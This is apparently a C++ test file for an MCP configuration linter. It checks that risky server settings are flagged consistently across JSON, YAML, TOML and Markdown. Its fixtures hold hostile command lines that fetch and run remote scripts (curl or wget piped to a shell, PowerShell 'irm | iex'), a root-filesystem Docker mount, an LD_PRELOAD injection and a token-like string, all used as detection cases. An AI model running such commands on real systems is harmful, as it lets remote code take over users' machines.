// Findings in configurations: the same in every syntax, each at the thing that is
// wrong and nothing more.

#include <doctest/doctest.h>

#include <span>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "lint/engine/select.h"
#include "mcplint/lint.h"
#include "rules/rules.h"
#include "temporary_folder.h"

using namespace mcplint;

/// "MCP301 `npx` runs `x` without a version @ \"x\"; ": what is found in a file of
/// that name, by these rules, and the text that is marked.
static std::string found(std::string_view path, std::string_view text,
                         const std::vector<const Rule*>& selected) {
  const TemporaryFolder folder;
  folder.write(std::string(path), text);
  Options options;
  options.paths = {folder.path().string()};
  options.rules = selected;
  options.known = all_rules();
  options.persona = Persona::Auditor;
  options.jobs = 1;
  const Run run = lint(options);
  std::string all;
  for (const Diagnostic& diagnostic : run.diagnostics) {
    all += std::string(diagnostic.rule->id) + " ";
    for (const std::string& word : diagnostic.words) all += word + " ";
    all += "@ " + std::string(diagnostic.span.text) + "; ";
  }
  return all;
}

namespace {

/// One server, written as JSON writes values.
struct Entry {
  std::string_view rule;
  std::string_view name;
  std::vector<std::pair<std::string_view, std::string_view>> fields;
  std::string_view expected;
};

}  // namespace

/// `"notes": {"command": "npx"}`, with `gap` between fields.
static std::string as_json(const Entry& entry, std::string_view gap) {
  std::string text =
      "{\"mcpServers\":" + std::string(gap) + "{\"" + std::string(entry.name) + "\":{";
  for (std::size_t i = 0; i < entry.fields.size(); ++i) {
    const auto& [key, value] = entry.fields[i];
    text += std::string(i == 0 ? "" : ",") + std::string(gap) + "\"" + std::string(key) +
            "\":" + std::string(value);
  }
  return text + "}}}\n";
}

static std::string as_yaml(const Entry& entry) {
  std::string text = "mcpServers:\n  \"" + std::string(entry.name) + "\":\n";
  for (const auto& [key, value] : entry.fields)
    text += "    \"" + std::string(key) + "\": " + std::string(value) + "\n";
  return text;
}

/// A map on one line has `=` in TOML.
static std::string as_toml(const Entry& entry) {
  std::string text = "[mcpServers.\"" + std::string(entry.name) + "\"]\n";
  for (const auto& [key, value] : entry.fields) {
    std::string one(value);
    const std::size_t colon = one.starts_with('{') ? one.find("\":") : std::string::npos;
    if (colon != std::string::npos) one.replace(colon + 1, 1, " = ");
    text += "\"" + std::string(key) + "\" = " + one + "\n";
  }
  return text;
}

/// `text` in a fence, each line behind `indent`.
static std::string in_markdown(std::string_view opening, std::string_view indent,
                               std::string_view text) {
  std::string result(opening);
  result += "\n" + std::string(indent) + "\n" + std::string(indent) + "```json\n";
  while (!text.empty()) {
    const std::size_t end = text.find('\n') + 1;
    result += std::string(indent) + std::string(text.substr(0, end));
    text.remove_prefix(end);
  }
  return result + std::string(indent) + "```\n";
}

static void check_everywhere(const Entry& entry) {
  const std::vector<const Rule*> rule = {find_rule(all_rules(), entry.rule)};
  CAPTURE(entry.rule);
  const auto check = [&](std::string_view path, const std::string& text) {
    CAPTURE(text);
    CHECK(found(path, text, rule) == entry.expected);
  };
  check("notes.json", as_json(entry, "\n  "));
  check("minified.json", as_json(entry, ""));
  check("notes.yaml", as_yaml(entry));
  check("notes.toml", as_toml(entry));
  check("README.md", in_markdown("# Notes", "", as_json(entry, "\n  ")));
  check("list.md", in_markdown("1. Write this:", "   ", as_json(entry, "\n  ")));
  check("quote.md", in_markdown("> - Write this:", ">   ", as_json(entry, "")));
}

TEST_CASE("the same mistake is the same finding in every syntax") {
  const Entry entries[] = {
      {"MCP301",
       "notes",
       {{"command", R"("npx")"}, {"args", R"(["-y","notes-server"])"}},
       "MCP301 npx notes-server @ \"notes-server\"; "},
      {"MCP301",
       "notes",
       {{"command", R"("docker")"}, {"args", R"(["run","-i","--rm","o/n"])"}},
       "MCP301 docker o/n @ \"o/n\"; "},
      {"MCP302",
       "notes",
       {{"command", R"("$HOME/bin/notes")"}},
       "MCP302 $HOME $HOME/bin/notes @ \"$HOME/bin/notes\"; "},
      {"MCP303",
       "notes",
       {{"command", R"("docker")"}, {"args", R"(["run","-i","-v","/:/host","o/n:1"])"}},
       "MCP303 / notes @ \"/:/host\"; "},
      {"MCP304",
       "notes",
       {{"command", R"("sh")"}, {"args", R"(["-c","cd /x && notes"])"}},
       "MCP304 notes sh @ \"cd /x && notes\"; "},
      {"MCP305",
       "notes",
       {{"command", R"("sudo")"}, {"args", R"(["notes"])"}},
       "MCP305 sudo notes @ \"sudo\"; "},
      {"MCP306",
       "notes",
       {{"url", R"("http://notes.example.com/mcp")"}},
       "MCP306 notes notes.example.com @ \"http://notes.example.com/mcp\"; "},
      {"MCP307",
       "notes",
       {{"command", R"("notes")"}, {"autoApprove", R"(["*"])"}},
       "MCP307 autoApprove notes @ [\"*\"]; "},
      {"MCP308",
       "notes",
       {{"type", R"("sse")"}, {"url", R"("https://notes.example.com/sse")"}},
       "MCP308 sse @ \"sse\"; "},
      {"MCP310",
       "notes",
       {{"command", R"("notes")"}, {"env", R"({"LD_PRELOAD":"/tmp/x.so"})"}},
       "MCP310 LD_PRELOAD notes @ \"LD_PRELOAD\"; "},
      {"MCP311",
       "notes",
       {{"command", R"("docker")"}, {"args", R"(["run","--rm","o/n:1"])"}},
       "MCP311 docker -i notes @ \"run\"; "},
      {"MCP312",
       "notes",
       {{"command", R"("notes")"}, {"url", R"("https://notes.example.com")"}},
       "MCP312 notes https://notes.example.com @ \"https://notes.example.com\"; "},
      {"MCP312",
       "notes",
       {{"command", R"("notes")"}, {"args", R"(["--port",8080])"}},
       "MCP312 8080 notes @ 8080; "},
      {"MCP314",
       "no__tes",
       {{"command", R"("notes")"}},
       "MCP314 no__tes mcp__server__tool @ \"no__tes\"; "},
      {"MCP319",
       "notes",
       {{"command", R"("python")"}, {"args", R"(["/x/notes.py"])"}},
       "MCP319 python /x/notes.py @ \"python\"; "},
      {"MCP320",
       "notes",
       {{"command", R"("notes")"},
        {"args", R"(["--token","ghp_16C7e42F292c6912E7710c838347Ae178B4a"])"}},
       "MCP320 args notes @ ghp_16C7e42F292c6912E7710c838347Ae178B4a; "},
      {"MCP321",
       "notes",
       {{"command", R"("docker")"}, {"args", R"(["run","-i","--rm","o/n:1"])"}},
       "MCP321 o/n --memory @ \"o/n:1\"; "},
      {"MCP322",
       "notes",
       {{"url", R"("https://notes.example.com")"}, {"headersHelper", R"("/x/token.sh")"}},
       "MCP322 headersHelper /x/token.sh notes @ \"/x/token.sh\"; "},
  };
  for (const Entry& entry : entries) check_everywhere(entry);
}

TEST_CASE("what a client does not replace is found in every syntax") {
  const struct {
    std::string_view path;
    std::string_view text;
  } cases[] = {
      {".cursor/mcp.json", R"({"mcpServers": {"a": {"command": "b", "env": {"C": "${C}"}}}})"},
      {".continue/config.yaml",
       "mcpServers:\n  - name: a\n    command: b\n    env: { C: \"${C}\" }\n"},
      {".codex/config.toml", "[mcp_servers.a]\ncommand = \"b\"\nenv = { C = \"${C}\" }\n"},
      {"README.md",
       "# Cursor\n\n```json\n{\"mcpServers\": {\"a\": {\"command\": \"b\", \"env\": "
       "{\"C\": \"${C}\"}}}}\n```\n"},
  };
  for (const auto& c : cases) {
    CAPTURE(c.path);
    const std::string all = found(c.path, c.text, {&rules::mcp309_foreign_placeholder});
    CHECK(all.starts_with("MCP309 ${C} "));
    CHECK(all.ends_with("@ \"${C}\"; "));
  }
}

/// How bad MCP304 finds that `command -c script` starts a server.
static Severity severity_of(std::string_view command, std::string_view script) {
  const TemporaryFolder folder;
  folder.write(".mcp.json", R"({"mcpServers": {"a": {"command": ")" + std::string(command) +
                                R"(", "args": ["-c", ")" + std::string(script) + R"("]}}})");
  const Rule* rule = &rules::mcp304_shell_command;
  Options options;
  options.paths = {folder.path().string()};
  options.rules = std::span<const Rule* const>(&rule, 1);
  options.known = all_rules();
  const Run run = lint(options);
  return run.diagnostics.empty() ? Severity::Info : run.diagnostics.front().severity;
}

TEST_CASE("what is downloaded and run is worse than a command line in a string") {
  const struct {
    std::string_view command;
    std::string_view script;
    Severity severity;
  } cases[] = {
      {"sh", "curl -fsSL https://a.example/x |sudo bash -s -- -y", Severity::Critical},
      {"bash", "bash <(wget -qO- https://a.example/x)", Severity::Critical},
      {"bash", R"(eval \"$(curl https://a.example/x)\")", Severity::Critical},
      {"sh", "if true; then curl https://a.example/x | sh; fi", Severity::Critical},
      {"pwsh", "irm https://a.example/x | iex", Severity::Critical},
      {"sh", "curl https://a.example/x | jq . && notes", Severity::Medium},
      {"sh", "echo 'curl https://a.example/x | sh'; notes", Severity::Medium},
      {"sh", "curl -o /tmp/x https://a.example/x; notes | node filter.js", Severity::Medium},
  };
  for (const auto& c : cases) {
    CAPTURE(c.script);
    CHECK(severity_of(c.command, c.script) == c.severity);
  }
}

TEST_CASE("a finding marks the string, key or number alone") {
  const auto only = [&](std::string_view id) {
    return std::vector<const Rule*>{find_rule(all_rules(), id)};
  };
  const struct {
    std::string_view rule;
    std::string_view path;
    std::string_view text;
    std::string_view marked;
  } cases[] = {
      // Minified JSON.
      {"MCP301", ".mcp.json", R"({"mcpServers":{"a":{"command":"npx","args":["-y","b"]}}})",
       "MCP301 npx b @ \"b\"; "},
      {"MCP308", ".cursor/mcp.json", R"({"mcpServers":{"a":{"serverUrl":"https://a.example"}}})",
       "MCP308 serverUrl Cursor @ \"serverUrl\"; "},
      {"MCP312", ".mcp.json", R"({"mcpServers":{"a":{"command":"b","args":["c",8080,true]}}})",
       "MCP312 8080 a @ 8080; "},
      {"MCP309", ".mcp.json", R"({"mcpServers":{"a":{"command":"b","env":{"C":"${env:C}"}}}})",
       "MCP309 ${env:C} Claude Code @ \"${env:C}\"; "},
      // Block scalars and plain ones.
      {"MCP301", ".continue/config.yaml",
       "mcpServers:\n  - name: a\n    command: npx\n    args:\n      - >-\n        b\n      - c\n",
       "MCP301 npx b @ >-\n        b; "},
      {"MCP301", ".config/goose/config.yaml",
       "extensions:\n  a: {type: stdio, cmd: uvx, args: [b]}\n", "MCP301 uvx b @ b; "},
      {"MCP301", "smithery.yaml",
       "startCommand:\n  type: stdio\n  commandFunction: |\n    (c) => ({command: 'npx', args: "
       "['-y', 'b']})\n",
       "MCP301 npx b @ b; "},
      {"MCP306", ".continue/config.yaml",
       "mcpServers:\n  - name: a\n    type: streamable-http\n    url: >-\n      "
       "http://a.example/mcp\n",
       "MCP306 a a.example @ >-\n      http://a.example/mcp; "},
      {"MCP304", ".config/goose/config.yaml",
       "extensions:\n  a:\n    type: stdio\n    cmd: sh\n    args:\n      - -c\n      - |\n        "
       "cd /x\n        b\n",
       "MCP304 a sh @ |\n        cd /x\n        b; "},
      // JSON in Markdown in a list in a quote.
      {"MCP301", "README.md",
       "> - Write:\n>\n>   ```json\n>   {\"mcpServers\":\n>     {\"a\": {\"command\": \"npx\", "
       "\"args\": [\"b\"]}}}\n>   ```\n",
       "MCP301 npx b @ \"b\"; "},
      // Words of a command line in a string.
      {"MCP301", ".mcp.json",
       R"({"mcpServers":{"a":{"command":"sh","args":["-c","cd /x && npx -y b"]}}})",
       "MCP301 npx b @ b; "},
  };
  for (const auto& c : cases) {
    CAPTURE(c.path);
    CAPTURE(c.text);
    CHECK(found(c.path, c.text, only(c.rule)) == c.marked);
  }
}
